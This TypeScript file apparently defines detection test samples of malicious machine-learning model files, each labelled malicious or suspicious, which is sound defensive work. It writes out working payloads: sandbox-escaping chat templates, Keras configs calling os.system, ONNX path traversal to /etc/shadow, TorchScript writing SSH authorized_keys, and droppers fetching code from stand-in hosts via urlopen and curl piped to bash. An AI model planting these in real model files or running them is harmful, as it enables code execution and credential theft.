import { zip } from '../../../fixtures/zip.ts';
import { base64 } from './bytes.ts';
import { gguf, kerasConfig, onnx, savedModel } from './model-files.ts';
import { ofFamily } from './sample.ts';

const code = base64(
  Buffer.concat([Buffer.from([0xe3]), Buffer.alloc(40), Buffer.from('os\0system\0echo stand-in')]),
);

export const samples = ofFamily('model-format', [
  {
    id: 'model-gguf-template',
    level: 'easy',
    technique: 'The chat template of a GGUF leaves its sandbox (CVE-2024-34359).',
    files: {
      'models/llama.gguf': gguf({
        'general.architecture': 'llama',
        'tokenizer.chat_template':
          "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('echo stand-in').read()}}{% endif %}{% endfor %}",
      }),
    },
    expect: 'malicious',
    where: 'models/llama.gguf',
  },
  {
    id: 'model-gguf-template-filters',
    level: 'hard',
    technique:
      'The same by filters and joined strings, so that no dunder is whole, in a file of another name.',
    files: {
      'models/weights.bin': gguf({
        'general.architecture': 'qwen2',
        'tokenizer.chat_template':
          "{{ (messages|attr('__cla'~'ss__')|attr(['__m','ro__']|join)|last|attr('__subcl'~'asses__'))()|length }}{% set g = cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f') %}{{ g['o'~'s']['pop'~'en']('echo stand-in') }}",
      }),
    },
    expect: 'malicious',
    where: 'models/weights.bin',
  },
  {
    id: 'model-tokenizer-template',
    level: 'ordinary',
    technique: 'The same in the tokenizer settings beside the weights (SSTI, CVE-2024-34359).',
    files: {
      'models/t/tokenizer_config.json': JSON.stringify({
        tokenizer_class: 'LlamaTokenizer',
        chat_template:
          "{{ self.__init__.__globals__.__builtins__.__import__('os').system('echo stand-in') }}",
      }),
    },
    expect: 'malicious',
    where: 'models/t/tokenizer_config.json',
  },
  {
    id: 'model-keras-lambda',
    level: 'easy',
    technique: 'A Lambda layer holds Python bytecode (CVE-2024-3660).',
    files: {
      'models/net.keras': zip({
        'metadata.json': '{"keras_version":"3.0.0"}',
        'config.json': kerasConfig(code),
        'model.weights.h5': '',
      }),
    },
    expect: 'malicious',
    where: 'models/net.keras',
  },
  {
    id: 'model-keras-module',
    level: 'hard',
    technique: 'No Lambda: the config names a function of any module (CVE-2025-1550).',
    files: {
      'models/ok.keras': zip({
        'metadata.json': '{"keras_version":"3.8.0"}',
        'config.json': JSON.stringify({
          module: 'keras',
          class_name: 'Functional',
          config: {
            layers: [
              {
                module: 'keras.layers',
                class_name: 'Dense',
                config: {
                  activation: {
                    module: 'os',
                    class_name: 'function',
                    config: 'system',
                    registered_name: 'function',
                  },
                },
              },
            ],
            inbound_nodes: [{ args: ['echo stand-in'], kwargs: {} }],
          },
        }),
        'model.weights.h5': '',
      }),
    },
    expect: 'malicious',
    where: 'models/ok.keras',
  },
  {
    id: 'model-keras-h5',
    level: 'ordinary',
    technique:
      'The same Lambda in the older HDF5 form (a stand-in: signature and the attribute, no B-trees).',
    files: {
      'models/net.h5': Buffer.concat([
        Buffer.from('\x89HDF\r\n\x1a\n', 'latin1'),
        Buffer.alloc(88),
        Buffer.from(`model_config\0${kerasConfig(code)}\0`),
      ]),
    },
    expect: 'suspicious',
    where: 'models/net.h5',
  },
  {
    id: 'model-savedmodel-files',
    level: 'ordinary',
    technique: 'Operations of TensorFlow read and write files as the graph runs (JFrog, Trail of Bits).',
    files: {
      'models/tf/saved_model.pb': savedModel([
        ['path', 'Const'],
        ['r', 'ReadFile'],
        ['w', 'WriteFile'],
      ]),
    },
    expect: 'suspicious',
    where: 'models/tf/saved_model.pb',
  },
  {
    id: 'model-savedmodel-pyfunc',
    level: 'hard',
    technique: 'PyFunc calls what the process has registered.',
    files: {
      'models/tf2/graph': savedModel([
        ['in', 'Placeholder'],
        ['f', 'EagerPyFunc'],
      ]),
    },
    expect: 'suspicious',
    where: 'models/tf2/graph',
  },
  {
    id: 'model-onnx-traversal',
    level: 'ordinary',
    technique: 'The bytes of a tensor come from a file outside (CVE-2022-25882, CVE-2024-27318).',
    files: { 'models/net.onnx': onnx('../../../../../../etc/shadow') },
    expect: 'malicious',
    where: 'models/net.onnx',
  },
  {
    id: 'model-onnx-absolute',
    level: 'hard',
    technique: 'The same by an absolute path to the memory of the process.',
    files: { 'srv/m.onnx': onnx('/proc/self/environ') },
    expect: 'malicious',
    where: 'srv/m.onnx',
  },
  {
    id: 'model-torchscript-file',
    level: 'hard',
    technique:
      'TorchScript code that writes a file through an operator, even with weights_only (torch.load, 2025).',
    files: {
      'models/ts.pt': zip({
        'ts/code/__torch__.py': `class M(Module):
  __parameters__ = []
  def forward(self: __torch__.M, x: Tensor) -> Tensor:
    y = torch.from_file("/etc/cron.d/x", True, 64)
    ops.aten.save(x, "/root/.ssh/authorized_keys")
    return x
`,
        'ts/data.pkl': Buffer.from('\x80\x02c__torch__\nM\nq\x00)\x81}b.', 'latin1'),
        'ts/constants.pkl': Buffer.from('\x80\x02).', 'latin1'),
        'ts/version': '3\n',
      }),
    },
    expect: 'suspicious',
    where: 'models/ts.pt',
  },
  {
    id: 'model-remote-code',
    level: 'ordinary',
    technique: 'Python beside weights, which trust_remote_code runs (T1195.002).',
    files: {
      'models/chat/config.json': JSON.stringify({
        model_type: 'chat',
        auto_map: { AutoModel: 'modeling_chat.ChatModel' },
      }),
      'models/chat/modeling_chat.py': `import os, urllib.request
from transformers import PreTrainedModel
class ChatModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        exec(urllib.request.urlopen("http://192.0.2.60/m.py").read())
`,
    },
    expect: 'malicious',
    where: 'models/chat/modeling_chat.py',
    does: 'dropper',
  },
  {
    id: 'model-torchserve-mar',
    level: 'ordinary',
    technique:
      'A TorchServe archive whose handler runs commands, from an open management interface (ShellTorch, CVE-2023-43654).',
    files: {
      'home/model-server/model-store/x.mar': zip({
        'MAR-INF/MANIFEST.json': '{"model":{"modelName":"x","handler":"h.py","modelVersion":"1.0"}}',
        'h.py':
          'import os\ndef handle(data, ctx):\n    return [os.popen(data[0]["body"].decode()).read()] if data else []\n',
      }),
      'home/model-server/config.properties': 'management_address=http://0.0.0.0:8081\nallowed_urls=.*\n',
    },
    expect: 'malicious',
    where: 'home/model-server/model-store/x.mar',
    does: 'c2',
  },
  {
    id: 'model-safetensors-prefix',
    level: 'hard',
    technique:
      'A header of safetensors that claims more bytes than there are, and text for a template in its metadata.',
    files: {
      'models/a.safetensors': (() => {
        const header = Buffer.from(
          '{"__metadata__":{"format":"pt"},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,9999999999]}}',
        );
        const length = Buffer.alloc(8);
        length.writeBigUInt64LE(BigInt(header.length));
        return Buffer.concat([length, header, Buffer.alloc(16)]);
      })(),
    },
    expect: 'suspicious',
    where: 'models/a.safetensors',
  },
  {
    id: 'model-notebook',
    level: 'ordinary',
    technique: 'A notebook whose first cell fetches and runs (Aqua on Jupyter, 2022; T1059.006).',
    files: {
      'notebooks/train.ipynb': JSON.stringify({
        nbformat: 4,
        nbformat_minor: 5,
        metadata: {},
        cells: [
          {
            cell_type: 'code',
            source: ['!curl -s http://198.51.100.9/n.sh | bash > /dev/null 2>&1 &\n', 'import torch'],
            outputs: [],
            metadata: {},
            execution_count: null,
          },
        ],
      }),
    },
    expect: 'malicious',
    where: 'notebooks/train.ipynb',
    does: 'dropper',
  },
]);
